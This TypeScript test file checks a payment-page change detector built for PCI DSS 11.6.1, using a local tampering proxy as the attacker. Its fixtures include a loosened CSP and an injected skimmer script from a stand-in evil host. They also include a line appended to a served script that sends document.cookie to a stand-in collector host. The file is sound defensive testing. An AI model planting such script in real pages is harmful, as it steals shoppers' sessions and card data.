// PCI DSS v4.0.1 11.6.1: a change to the payment page's security headers or scripts, as a
// browser receives them, is detected and reported with a diff.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type StorefrontStack, startStorefrontStack } from '../../../api/test/support/storefront-stack.js';
import { STOREFRONT_ROOT } from '../../build/storefront-config.js';
import { buildStorefront } from '../support/build-storefront.js';

const COMMAND = join(STOREFRONT_ROOT, 'scripts', 'detect-payment-page-changes.ts');

// Async, not spawnSync: the shop under test answers from this same process.
function runCommand(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', COMMAND, ...args]);
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => {
      stdout += d;
    });
    child.stderr.on('data', (d) => {
      stderr += d;
    });
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

interface Tamper {
  header?: (name: string, value: string) => string;
  html?: (html: string) => string;
  script?: (code: string) => string;
}

/** A man in the middle between the browser and the shop, to change what the page looks like. */
async function tamperingProxy(target: string, tamper: Tamper, hooks: { after(fn: () => unknown): void }) {
  const server = http.createServer(async (req, res) => {
    const upstream = await fetch(new URL(req.url ?? '/', target), { headers: { accept: String(req.headers.accept) } });
    const headers: Record<string, string> = {};
    upstream.headers.forEach((value, name) => {
      if (name === 'content-length' || name === 'content-encoding' || name === 'transfer-encoding') return;
      headers[name] = tamper.header ? tamper.header(name, value) : value;
    });
    let body = Buffer.from(await upstream.arrayBuffer());
    const type = String(headers['content-type']);
    if (tamper.html && type.startsWith('text/html')) body = Buffer.from(tamper.html(body.toString('utf8')));
    if (tamper.script && type.includes('javascript')) body = Buffer.from(tamper.script(body.toString('utf8')));
    res.writeHead(upstream.status, headers);
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  hooks.after(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe('[C-004] payment page change detection (storefront/scripts/detect-payment-page-changes.ts)', () => {
  const cleanups: (() => unknown)[] = [];
  const hooks = { after: (fn: () => unknown) => cleanups.unshift(fn) };
  let stack: StorefrontStack;
  let baseline: string;

  before(async () => {
    const build = await buildStorefront(hooks);
    stack = await startStorefrontStack(hooks, { distDir: build.distDir, payments: false });
    const dir = mkdtempSync(join(tmpdir(), 'payment-page-baseline-'));
    hooks.after(() => rmSync(dir, { recursive: true, force: true }));
    baseline = join(dir, 'baseline.json');
  });
  after(async () => {
    for (const fn of cleanups) await fn();
  });

  it('records an approved baseline and then reports the unchanged page as unchanged', async () => {
    const page = `${stack.directUrl}/checkout`;
    const approve = await runCommand(['--url', page, '--baseline', baseline, '--approve']);
    assert.equal(approve.status, 0, approve.stderr);
    const check = await runCommand(['--url', page, '--baseline', baseline]);
    assert.equal(check.status, 0, check.stderr);
    assert.match(check.stdout, /payment page unchanged/);
  });

  it('exits 1 with a diff when a security header changes (a loosened CSP)', async () => {
    const proxy = await tamperingProxy(
      stack.directUrl,
      {
        header: (name, value) =>
          name === 'content-security-policy'
            ? value.replace("script-src 'self'", "script-src 'self' https://cdn.evil.example")
            : value,
      },
      hooks,
    );
    const approve = await runCommand(['--url', `${stack.directUrl}/checkout`, '--baseline', baseline, '--approve']);
    assert.equal(approve.status, 0, approve.stderr);
    // The baseline was taken from the shop itself; compare the proxied page against it.
    const res = await runCommand(['--url', `${proxy}/checkout`, '--baseline', baseline]);
    assert.equal(res.status, 1, res.stdout);
    assert.match(res.stderr, /header changed: content-security-policy/);
    assert.match(res.stderr, /\+ .*https:\/\/cdn\.evil\.example/);
  });

  it('exits 1 with a diff when a script is added to the page or one of ours is served altered', async () => {
    const injected = await tamperingProxy(
      stack.directUrl,
      { html: (html) => html.replace('</head>', '<script src="https://cdn.evil.example/skim.js"></script></head>') },
      hooks,
    );
    const approve = await runCommand(['--url', `${stack.directUrl}/checkout`, '--baseline', baseline, '--approve']);
    assert.equal(approve.status, 0, approve.stderr);
    const added = await runCommand(['--url', `${injected}/checkout`, '--baseline', baseline]);
    assert.equal(added.status, 1);
    assert.match(added.stderr, /script added: https:\/\/cdn\.evil\.example\/skim\.js/);

    const swapped = await tamperingProxy(
      stack.directUrl,
      { html: (html) => html.replace(/integrity="sha384-[^"]+"/, 'integrity="sha384-AAAA"') },
      hooks,
    );
    const changed = await runCommand(['--url', `${swapped}/checkout`, '--baseline', baseline]);
    assert.equal(changed.status, 1);
    assert.match(changed.stderr, /script integrity changed: \/assets\/index-[\w-]+\.js/);

    const altered = await tamperingProxy(
      stack.directUrl,
      { script: (code) => `${code}\n;fetch("https://collector.example/?c="+document.cookie);` },
      hooks,
    );
    const served = await runCommand(['--url', `${altered}/checkout`, '--baseline', baseline]);
    assert.equal(served.status, 1);
    assert.match(served.stderr, /script content changed: \/assets\/index-[\w-]+\.js/);
  });

  it('exits 2, not 0, when the page cannot be fetched or no baseline was approved', async () => {
    const down = await runCommand(['--url', 'http://127.0.0.1:1/checkout', '--baseline', baseline]);
    assert.equal(down.status, 2);
    const none = await runCommand(['--url', `${stack.directUrl}/checkout`, '--baseline', `${baseline}.missing`]);
    assert.equal(none.status, 2);
  });
});
